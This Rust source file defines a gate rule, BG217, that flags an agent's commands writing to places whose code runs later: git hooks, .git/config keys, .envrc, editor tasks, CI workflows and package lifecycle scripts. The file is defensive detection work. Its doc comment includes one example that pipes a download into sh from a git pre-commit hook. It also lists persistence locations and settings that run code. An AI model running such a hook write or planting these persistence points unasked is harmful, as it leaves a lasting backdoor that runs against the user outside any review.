//! BG217: writes to places that run code later, outside any gate — git hooks and
//! settings, direnv's `.envrc`, editor tasks, dev containers, CI workflows, package
//! lifecycle scripts, package-manager script settings, pre-commit hooks.
//! [`PERSISTENCE_PLACES`] is the one list of such places.

use crate::catalogue::{Entry, Fact, usage};
use crate::declare_rule;
use crate::model::command::SimpleCommand;
use crate::model::word::Word;
use crate::rules::Checker;
use crate::rules::invocation::{Invocation, any_entry};
use crate::verdict::Span;
use std::path::{Component, Path};

declare_rule! {
    /// ## What it does
    /// Asks when a command writes — by any write the gate models: a redirect, `tee`,
    /// a `cp`/`mv`/`install` destination, `sed -i`, `perl -pi`, a link made with
    /// `ln -s` — to a place inside the project whose content runs later, without
    /// passing through this gate:
    ///
    /// - `.git/hooks/*` and `.husky/*` (git runs them on commit, checkout, push);
    /// - `.git/config` (settings that run programs: `core.fsmonitor`, `core.pager`,
    ///   aliases, filters);
    /// - `.envrc` (direnv runs it in every shell that enters the folder);
    /// - `.vscode/tasks.json`, `.vscode/settings.json` (tasks run on folder open,
    ///   settings name programs), `.devcontainer/`, `.devcontainer.json`;
    /// - CI: `.github/workflows/`, `.github/actions/`, `.gitlab-ci.yml`, `.circleci/`;
    /// - `.pre-commit-config.yaml`;
    /// - `.npmrc`, `.yarnrc`, `.yarnrc.yml` when the text written is unknown or sets
    ///   a key that runs a program (`script-shell`, `node-options`, `yarnPath`...);
    /// - `package.json` when the text written is known and adds a lifecycle script
    ///   (`preinstall`, `install`, `postinstall`, `prepare`, `prepublish`...). An
    ///   edit of unknown text is judged when a runner follows (BG218).
    ///
    /// It also asks for the commands that write such settings themselves: `git
    /// config KEY VALUE` of a key the catalogue says runs a program or names a
    /// project path (`core.hooksPath`, `core.fsmonitor`, `include.path`, `alias.*`,
    /// `filter.*.clean`...), `npm pkg set scripts.postinstall=...`, `npm|pnpm|yarn
    /// config set` of a script setting, and the subcommands the catalogue marks
    /// `persists` (`direnv allow`, which approves `.envrc`).
    ///
    /// ## Why
    /// Being inside the project does not make a write harmless: these files are code
    /// that git, direnv, the editor, CI or the package manager run later — after the
    /// agent's command, for the user, with no gate in between. One `echo` into
    /// `.git/hooks/pre-commit` is a backdoor that survives the session.
    ///
    /// ## Example
    /// - `echo 'curl x | sh' > .git/hooks/pre-commit` → ask
    /// - `cat .git/config` → allow
    /// - `git config core.hooksPath .githooks` → ask
    /// - `git config user.name Ada` → allow
    /// - `npm pkg set scripts.postinstall='node x.js'` → ask
    /// - `npm pkg set scripts.build=tsc` → allow
    pub static PERSISTENCE_WRITE = {
        code: "BG217",
        name: "persistence-write",
        default: Ask,
        capability: FilesystemWrite,
        summary: "writes a place whose code runs later outside the gate (.git/hooks, .envrc, CI, lifecycle scripts)",
    };
}

/// How a place is matched against a path relative to the project root (or any
/// folder below it: a nested repository has hooks too).
#[derive(Clone, Copy, Debug)]
pub enum Shape {
    /// Anything below this folder.
    Under(&'static str),
    /// This file.
    File(&'static str),
}

/// When a write to the place is persistence.
#[derive(Clone, Copy, Debug)]
pub enum When {
    /// Always.
    Always,
    /// When the text is unknown or sets a package-manager key that runs code.
    ScriptSetting,
    /// Only when the text is known and adds a package lifecycle script.
    LifecycleScript,
}

/// A place whose content runs later.
#[derive(Clone, Copy, Debug)]
pub struct PersistencePlace {
    /// Where it is.
    pub shape: Shape,
    /// When a write there counts.
    pub when: When,
    /// Who runs it, for the message.
    pub runs: &'static str,
}

const fn place(shape: Shape, when: When, runs: &'static str) -> PersistencePlace {
    PersistencePlace { shape, when, runs }
}

/// The one list of places that run code later.
pub static PERSISTENCE_PLACES: &[PersistencePlace] = &[
    place(
        Shape::Under(".git/hooks"),
        When::Always,
        "git runs hooks on commit, checkout, merge and push",
    ),
    place(
        Shape::File(".git/config"),
        When::Always,
        "git settings can run programs (core.fsmonitor, core.pager, aliases, filters)",
    ),
    place(
        Shape::Under(".husky"),
        When::Always,
        "husky's git hooks run on commit and push",
    ),
    place(
        Shape::File(".envrc"),
        When::Always,
        "direnv runs .envrc in every shell that enters the folder",
    ),
    place(
        Shape::File(".vscode/tasks.json"),
        When::Always,
        "editor tasks can run when the folder is opened",
    ),
    place(
        Shape::File(".vscode/settings.json"),
        When::Always,
        "editor settings name programs the editor runs",
    ),
    place(
        Shape::Under(".devcontainer"),
        When::Always,
        "dev container commands run when the container is built or opened",
    ),
    place(
        Shape::File(".devcontainer.json"),
        When::Always,
        "dev container commands run when the container is built or opened",
    ),
    place(
        Shape::Under(".github/workflows"),
        When::Always,
        "CI runs workflows with the repository's secrets",
    ),
    place(
        Shape::Under(".github/actions"),
        When::Always,
        "CI runs the repository's actions with its secrets",
    ),
    place(
        Shape::File(".gitlab-ci.yml"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::Under(".circleci"),
        When::Always,
        "CI runs the pipeline with the repository's secrets",
    ),
    place(
        Shape::File(".pre-commit-config.yaml"),
        When::Always,
        "pre-commit runs the hooks it lists on every commit",
    ),
    place(
        Shape::File(".npmrc"),
        When::ScriptSetting,
        "npm reads script settings (script-shell, node-options) from it",
    ),
    place(
        Shape::File(".yarnrc"),
        When::ScriptSetting,
        "yarn reads the program it runs (yarn-path) from it",
    ),
    place(
        Shape::File(".yarnrc.yml"),
        When::ScriptSetting,
        "yarn reads the program and plugins it runs (yarnPath, plugins) from it",
    ),
    place(
        Shape::File("package.json"),
        When::LifecycleScript,
        "npm runs lifecycle scripts on every install",
    ),
];

/// Package-manager settings whose value is a program or code it runs.
pub const SCRIPT_SETTINGS: &[&str] = &[
    "script-shell",
    "shell",
    "node-options",
    "onload-script",
    "init-module",
    "git",
    "editor",
    "ignore-scripts",
    "yarn-path",
    "yarnpath",
    "plugins",
];

/// Lifecycle scripts npm runs without being asked to (install, pack, publish).
pub const LIFECYCLE_SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "prepublishOnly",
    "prepack",
    "postpack",
    "dependencies",
];

impl Shape {
    /// True when `parts` (the names of a path below the root) are this place, at
    /// the top or in any folder below it.
    fn matches(self, parts: &[&str]) -> bool {
        let (pattern, under) = match self {
            Shape::Under(p) => (p, true),
            Shape::File(p) => (p, false),
        };
        let want = pattern.split('/').count();
        (0..parts.len()).any(|start| {
            let rest = &parts[start..];
            let fits = if under {
                rest.len() >= want
            } else {
                rest.len() == want
            };
            fits && rest
                .iter()
                .copied()
                .zip(pattern.split('/'))
                .all(|(a, b)| a == b)
        })
    }
}

/// The place `relative` is, if any.
pub fn place_of(relative: &Path) -> Option<&'static PersistencePlace> {
    // The path's names once, for every place (most writes are one or two deep).
    let parts: Vec<&str> = relative
        .components()
        .filter_map(|c| match c {
            Component::Normal(s) => s.to_str(),
            _ => None,
        })
        .collect();
    PERSISTENCE_PLACES.iter().find(|p| p.shape.matches(&parts))
}

/// True when `text` (a package.json) adds a lifecycle script; text that is not
/// JSON counts (npm would fail or read it some other way).
pub fn adds_lifecycle_script(text: &str) -> bool {
    let Ok(value) = serde_json::from_str::<serde_json::Value>(text) else {
        return true;
    };
    let Some(scripts) = value.get("scripts") else {
        return false;
    };
    let Some(scripts) = scripts.as_object() else {
        return true;
    };
    scripts
        .keys()
        .any(|k| LIFECYCLE_SCRIPTS.contains(&k.as_str()) || is_hook_of_lifecycle(k))
}

/// `preinstall`-style names built from a lifecycle event (`postprepare`).
fn is_hook_of_lifecycle(key: &str) -> bool {
    ["pre", "post"].iter().any(|p| {
        key.strip_prefix(p)
            .is_some_and(|rest| LIFECYCLE_SCRIPTS.contains(&rest))
    })
}

/// True when `text` (an `.npmrc`/`.yarnrc`) sets a script setting.
fn sets_script_setting(text: &str) -> bool {
    text.lines().any(|line| {
        let line = line.trim().trim_start_matches(['"', '\'']);
        let key: String = line
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
            .collect::<String>()
            .to_ascii_lowercase();
        SCRIPT_SETTINGS.contains(&key.as_str())
    })
}

/// Judges every write of the command and the settings commands.
pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
    let entry = cx.entry(cmd);
    // An empty folder runs nothing: `mkdir -p .github/workflows` is not persistence
    // (what is written into it later is).
    let makes_folders = entry.is_some_and(|e| e.name == "mkdir");
    let files = if makes_folders {
        None
    } else {
        Some(cx.written_files(cmd)).filter(|files| !files.is_empty())
    };
    if let Some(files) = files {
        let root = cx.paths.root().to_path_buf();
        for file in files.iter() {
            for relative in file.relative(&root) {
                let Some(place) = place_of(relative) else {
                    continue;
                };
                let counts = match place.when {
                    When::Always => true,
                    When::ScriptSetting => file.text.as_deref().is_none_or(sets_script_setting),
                    When::LifecycleScript => {
                        file.append || file.text.as_deref().is_some_and(adds_lifecycle_script)
                    }
                };
                if counts {
                    cx.report(
                        &PERSISTENCE_WRITE,
                        file.span,
                        format!(
                            "writes {}, which runs later outside the gate: {}",
                            relative.display(),
                            place.runs
                        ),
                    );
                    break;
                }
            }
        }
    }
    // Programs with settings that name programs (`config_keys`) or a subcommand
    // that persists (`direnv allow`): catalogue data.
    let settings = entry.is_some_and(|e| {
        any_entry(e, &|e: &Entry| {
            e.has(Fact::Persists) || !e.config_keys.is_empty()
        })
    });
    if settings && let Some(inv) = Invocation::of(cmd) {
        settings_command(&inv, cmd, cx);
    }
}

/// `git config KEY VALUE`, `npm pkg set scripts.X=...`, `npm config set KEY VALUE`,
/// `direnv allow`.
fn settings_command(inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
    let operands: Vec<&Word> = inv.operands().collect();
    if let Some(leaf) = inv.leaf.filter(|l| l.has(Fact::Persists)) {
        let what = std::iter::once(inv.program)
            .chain(inv.subcommands.iter().copied())
            .collect::<Vec<_>>()
            .join(" ");
        cx.report(
            &PERSISTENCE_WRITE,
            span_of(cmd),
            format!(
                "`{what}` stores what runs later, outside the gate: {}",
                leaf.summary
            ),
        );
        return;
    }
    // Settings the program's own entry gives roles to (`git config core.pager`).
    if inv.leaf_name() == Some("config") && inv.entry.is_some_and(|e| !e.config_keys.is_empty()) {
        git_config(inv, cmd, &operands, cx);
    } else {
        package_settings(inv, &operands, cx);
    }
}

/// The span of a command's program word, or the whole command.
fn span_of(cmd: &SimpleCommand) -> Span {
    cmd.name().map_or(cmd.span, |w| w.span)
}

/// `git config [--global] KEY VALUE` / `git config set KEY VALUE` of a key that runs
/// a program or names a path git loads code from.
fn git_config(inv: &Invocation, cmd: &SimpleCommand, operands: &[&Word], cx: &mut Checker) {
    // A query (`--get`, `--list`: the catalogue's `read-only` flags) writes nothing.
    let words: Vec<Option<&str>> = cmd.args().iter().map(Word::value).collect();
    if inv
        .entry
        .is_some_and(|e| usage(e, &words).has(Fact::ReadOnly))
    {
        return;
    }
    let (key, has_value) = match operands.first().and_then(|w| w.value()) {
        Some("set") => (operands.get(1), operands.len() > 2),
        Some("get" | "list" | "unset" | "rename-section" | "remove-section" | "edit") => return,
        _ => (operands.first(), operands.len() > 1),
    };
    let Some(key) = key else {
        return;
    };
    if !has_value {
        return;
    }
    let Some(name) = key.value() else {
        cx.report(
            &PERSISTENCE_WRITE,
            key.span,
            "`git config` of a key only known at run time: it may be a setting that runs a program"
                .into(),
        );
        return;
    };
    let role = inv.entry.and_then(|e| e.config_key_role(name));
    let persists = role.is_some_and(|r| {
        r.runs()
            || matches!(
                r,
                crate::catalogue::Role::Directory | crate::catalogue::Role::PathRead
            )
    });
    if persists {
        cx.report(
            &PERSISTENCE_WRITE,
            key.span,
            format!(
                "`git config {name}` stores a setting git acts on later, outside the gate (it runs a program or loads code from a path)"
            ),
        );
    }
}

/// `npm pkg set scripts.postinstall=...`, `npm config set script-shell ...`.
fn package_settings(inv: &Invocation, operands: &[&Word], cx: &mut Checker) {
    let words: Vec<Option<&str>> = operands.iter().map(|w| w.value()).collect();
    // The subcommand words as written (`npm pkg set`, `npm config set`): the
    // catalogue may or may not know them.
    let leading: Vec<&str> = inv
        .subcommands
        .iter()
        .copied()
        .chain(words.iter().map_while(|w| *w))
        .collect();
    let at = |i: usize| leading.get(i).copied();
    let (keys_from, pkg) = match (at(0), at(1)) {
        (Some("pkg"), Some("set")) => (2usize, true),
        (Some("config" | "c"), Some("set")) => (2, false),
        _ => return,
    };
    let skip = keys_from.saturating_sub(inv.subcommands.len());
    for (i, word) in operands.iter().enumerate().skip(skip) {
        let Some(value) = word.value() else {
            cx.report(
                &PERSISTENCE_WRITE,
                word.span,
                "a package setting only known at run time may be a script that runs later".into(),
            );
            continue;
        };
        let key = value.split_once('=').map_or(value, |(k, _)| k);
        let hit = if pkg {
            key.strip_prefix("scripts.")
                .is_some_and(|s| LIFECYCLE_SCRIPTS.contains(&s) || is_hook_of_lifecycle(s))
        } else {
            // `config set KEY VALUE`: only the key words, not their values.
            let is_key = value.contains('=') || i == skip;
            is_key && SCRIPT_SETTINGS.contains(&key.to_ascii_lowercase().as_str())
        };
        if hit {
            cx.report(
                &PERSISTENCE_WRITE,
                word.span,
                format!(
                    "sets `{key}`: the package manager runs it later (on install or for every script), outside the gate"
                ),
            );
        }
    }
}
